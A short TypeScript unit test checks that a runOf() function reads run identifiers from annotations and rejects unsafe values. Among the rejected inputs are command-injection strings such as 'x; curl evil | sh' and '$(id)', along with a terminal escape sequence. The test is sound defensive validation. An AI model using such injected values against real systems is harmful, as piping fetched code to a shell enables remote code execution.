import { expect } from 'chai';
import { runOf } from '../../../src/cluster/identity.ts';

describe('runOf()', () => {
  it('takes the marks of a run', () => {
    expect(runOf({ annotations: { 'netproof.dev/run': '0a1b2c3d', 'netproof.dev/heart': 'netproof-0a1b2c3d' } })).to.deep.equal({ run: '0a1b2c3d', heart: 'netproof-0a1b2c3d' });
    expect(runOf({})).to.deep.equal({});
    expect(runOf(undefined)).to.deep.equal({});
  });

  for (const heart of ['', 'a b', 'x; curl evil | sh', '$(id)', 'up\u001b[2J', '-A', 'A', 'a'.repeat(254)]) {
    it(`does not hear ${JSON.stringify(heart.slice(0, 20))}, which gets into a command that is shown`, () => {
      expect(runOf({ annotations: { 'netproof.dev/run': heart, 'netproof.dev/heart': heart } })).to.deep.equal({});
    });
  }
});
